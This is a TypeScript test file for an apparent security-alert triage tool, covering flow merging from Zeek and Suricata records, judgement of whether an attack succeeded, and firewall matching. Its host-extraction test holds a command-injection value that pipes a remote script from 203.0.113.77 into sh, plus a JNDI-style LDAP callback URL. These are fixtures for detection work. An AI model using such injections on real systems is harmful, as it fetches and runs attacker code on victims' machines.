import { describe, expect, it } from 'vitest'
import { makeCase } from '../made-case.ts'
import { mayHaveWorked } from './attribution.ts'
import { decisionsOn } from './device-decisions.ts'
import { callsOut, flowsOf, ownFlows, sidesOf, targetCalled } from './flows.ts'
import { alerted, alertedOut, ATTACKER, conn, eveFlow, firewall, TARGET } from './made-records.ts'
import { namedHosts } from './named-hosts.ts'

const flows = (...after: Parameters<typeof makeCase>[0]['after'] & object): ReturnType<typeof flowsOf> =>
  flowsOf(makeCase({ title: 'x', after }).after)

describe('flows', () => {
  it('makes one of what two sensors tell, with the smaller count of bytes', () => {
    const found = flows(conn(0, { port: 443, sent: 400 }), eveFlow(12, { port: 443, sent: 700, seconds: 12 }))
    expect(found).toHaveLength(1)
    expect(found[0]).toMatchObject({ sent: 400, answered: true, server: { ip: ATTACKER, port: 443 } })
    expect(found[0]!.events).toHaveLength(2)
  })

  it('keeps flows apart that use the same ports later', () => {
    expect(flows(conn(0, { port: 443 }), conn(2000, { port: 443 }))).toHaveLength(2)
  })

  it.each([
    ['SF', true],
    ['S1', true],
    ['RSTO', true],
    ['S0', false],
    ['REJ', false],
    ['RSTOS0', false],
  ])('Zeek %s: handshake %s', (state, answered) => {
    expect(flows(conn(0, { port: 80, state }))[0]?.answered).toBe(answered)
  })

  it('knows a refusal of EVE by the flags of the server', () => {
    expect(flows(eveFlow(0, { port: 80, flags: '14' }))[0]?.answered).toBe(false)
    expect(flows(eveFlow(0, { port: 80, flags: '12' }))[0]?.answered).toBe(true)
    expect(flows(eveFlow(0, { port: 80, state: 'new' }))[0]?.answered).toBe(false)
  })

  it('counts a flow from its beginning, not from when it was logged', () => {
    const late = eveFlow(30, { port: 4444, seconds: 90 })
    expect(callsOut(makeCase({ title: 'x', own: [alerted(0)], after: [late] }))).toEqual([])
    expect(callsOut(makeCase({ title: 'x', own: [alerted(0)], after: [eveFlow(30, { port: 4444, seconds: 10 })] }))).toHaveLength(
      1,
    )
  })

  it('turns an alert on what the server sent', () => {
    const of = makeCase({
      title: 'x',
      own: [
        alerted(0, { 'src.ip': TARGET, 'src.port': 80, 'dst.ip': ATTACKER, 'dst.port': 40_000, 'net.direction': 'to_client' }),
      ],
      flow: [conn(0, { from: ATTACKER, fromPort: 40_000, to: TARGET, port: 80 })],
    })
    expect(sidesOf(of.own[0]!).server).toEqual({ ip: TARGET, port: 80 })
    expect(targetCalled(of)).toBe(false)
    expect(ownFlows(of)).toHaveLength(1)
    expect(targetCalled(makeCase({ title: 'x', own: [alertedOut(0)] }))).toBe(true)
  })
})

describe('attribution', () => {
  const refused = { url: '/a', status: 403 }
  it('lays nothing to an attempt that was refused', () => {
    expect(mayHaveWorked(makeCase({ title: 'Path traversal', exchanges: [refused, refused] }))).toBe(false)
    expect(mayHaveWorked(makeCase({ title: 'Path traversal', exchanges: [refused, { url: '/a', status: 200 }] }))).toBe(true)
    expect(mayHaveWorked(makeCase({ title: 'SQL injection', own: [alerted(0, { action: 'blocked' })] }))).toBe(false)
    expect(
      mayHaveWorked(
        makeCase({
          title: 'SMB exploit',
          own: [alerted(0)],
          flow: [conn(0, { from: ATTACKER, fromPort: 40_000, to: TARGET, port: 80, state: 'S0' })],
        }),
      ),
    ).toBe(false)
  })
  it('does not believe an error where the code runs before the answer', () => {
    expect(mayHaveWorked(makeCase({ title: 'JNDI lookup', exchanges: [refused] }))).toBe(true)
  })
})

describe('hosts that requests name', () => {
  it('undoes escapes, and leaves out the target and the site itself', () => {
    const of = makeCase({
      title: 'x',
      exchanges: [
        {
          url: `/f?u=http%253a%252f%252foob.example%2Fa&v=https://portal.example/b&w=ldap://198.51.100.7:1389/c&x=http://${TARGET}/`,
          requestBody: 'a=;curl -s 203.0.113.77/x.sh|sh',
        },
      ],
    })
    expect([...namedHosts(of)].sort()).toEqual(['198.51.100.7', '203.0.113.77', 'oob.example'])
  })
  it('takes no version for an address', () => {
    const own = [alerted(0, { 'http.user_agent': 'Mozilla/5.0 (Windows NT 10.0) Chrome/120.0.0.0', 'http.url': '/a' })]
    expect(namedHosts(makeCase({ title: 'x', own })).size).toBe(0)
  })
})

describe('decisions of devices', () => {
  it('are those on the same addresses, ports and time', () => {
    const of = makeCase({
      title: 'x',
      own: [alerted(0)],
      flow: [firewall(1, 'deny'), firewall(2, 'Accept'), firewall(3, 'deny', { 'src.port': 9 }), firewall(600, 'deny')],
    })
    expect(decisionsOn(of).map((one) => one.let)).toEqual([false, true])
  })
})
